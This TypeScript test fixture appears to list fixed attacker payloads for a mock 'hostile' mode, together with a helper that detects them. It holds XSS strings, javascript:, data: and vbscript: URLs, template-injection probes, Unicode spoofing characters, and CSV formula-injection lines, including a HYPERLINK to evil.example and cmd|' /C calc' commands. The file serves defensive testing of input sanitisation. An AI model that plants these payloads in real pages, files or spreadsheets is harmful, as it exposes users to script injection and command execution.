/**
 * The attacker payloads of MOCK_HOSTILE=1, by name, so that tests can look for the exact strings.
 * Every string is fixed: the same answer always carries the same payloads.
 */

/** Where a text payload goes: after the original text, or before it (CSV formulas must start a cell). */
export type PayloadPlace = 'end' | 'start';

/** One payload for free text. */
export interface TextPayload {
  name: keyof typeof hostileText;
  text: string;
  place: PayloadPlace;
  /** A pattern that starts with it no longer compiles: kept out of regex-valued fields. */
  breaksRegex?: boolean;
}

/** Markup, template, Unicode and spreadsheet payloads added to free text. */
export const hostileText = {
  imgOnerror: '<img src=x onerror=alert(1)>',
  scriptTag: '<script>alert(1)</script>',
  svgBreakout: '"><svg onload=alert(1)>',
  mustache: '{{7*7}}',
  templateLiteral: '${7*7}',
  /** U+202E RIGHT-TO-LEFT OVERRIDE: "fdp.exe" displays as "exe.pdf". */
  rtlOverride: '\u202Efdp.exe',
  /** U+200B ZERO WIDTH SPACE and U+FEFF ZERO WIDTH NO-BREAK SPACE (BOM) inside a word. */
  zeroWidth: 'ze\u200Bro\uFEFFwidth',
  /** A high surrogate with no low surrogate: not valid UTF-16 (encodeURIComponent throws on it). */
  loneSurrogate: 'lone\uD800surrogate',
  csvHyperlink: '=HYPERLINK("https://evil.example/?leak=1","Click me")',
  csvPlus: "+cmd|' /C calc'!A0",
  csvMinus: "-2+3+cmd|' /C calc'!A0",
  csvAt: "@SUM(1+1)*cmd|' /C calc'!A0",
  csvTab: '\t=1+1',
  csvCarriageReturn: '\r=1+1',
  /** 2,000 characters without a space or a hyphen to break on. */
  longToken: `LongUnbrokenToken${'Aa0'.repeat(661)}`,
} as const;

/** Script and data URLs that replace a URL: mixed case, leading spaces, tabs and newlines inside. */
export const hostileUrls = {
  mixedCaseJavascript: ' JaVa\tScRiPt:alert(1)',
  javascriptDomain: 'javascript:alert(document.domain)',
  tabbedJavascript: '\tjava\tscript:alert(document.cookie)',
  newlineJavascript: 'java\nscript:alert(2)',
  dataHtml: 'data:text/html,<script>alert(1)</script>',
  mixedCaseDataBase64: ' DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  vbscript: 'VbScRiPt:MsgBox(1)',
} as const;

/** 100 KB (102,400 characters) of text with markup in it: only on a few fields of an answer. */
export const HOSTILE_GIANT_TEXT = `HOSTILE-100KB ${'Lorem <b>ipsum</b> dolor sit amet, '.repeat(2926)}`.slice(
  0,
  102_400,
);

/** The query parameter that carries a payload in an `https://` URL (`…?xss=<payload>`). */
export const HOSTILE_QUERY_PARAM = 'xss';

const start = new Set<keyof typeof hostileText>([
  'csvHyperlink',
  'csvPlus',
  'csvMinus',
  'csvAt',
  'csvTab',
  'csvCarriageReturn',
]);

/** The text payloads in rotation order. */
export const textPayloads: readonly TextPayload[] = (
  Object.entries(hostileText) as [keyof typeof hostileText, string][]
).map(([name, text]) => ({
  name,
  text,
  place: start.has(name) ? 'start' : 'end',
  ...(name === 'csvPlus' ? { breaksRegex: true } : {}),
}));

/** The script and data URLs in rotation order. */
export const scriptUrls: readonly string[] = Object.values(hostileUrls);

/** Payloads that go in the query of an `https://` URL (short, and without `&` or `#`). */
export const urlQueryPayloads: readonly string[] = [
  hostileText.svgBreakout,
  hostileText.imgOnerror,
  hostileText.scriptTag,
  hostileText.mustache,
  hostileText.rtlOverride,
  hostileText.zeroWidth,
];

/** Every payload string. */
export const allPayloads: readonly string[] = [
  HOSTILE_GIANT_TEXT,
  ...Object.values(hostileText),
  ...scriptUrls,
];

/** True when `value` contains one of the catalogue's payloads. */
export function carriesPayload(value: string): boolean {
  return allPayloads.some((payload) => value.includes(payload));
}
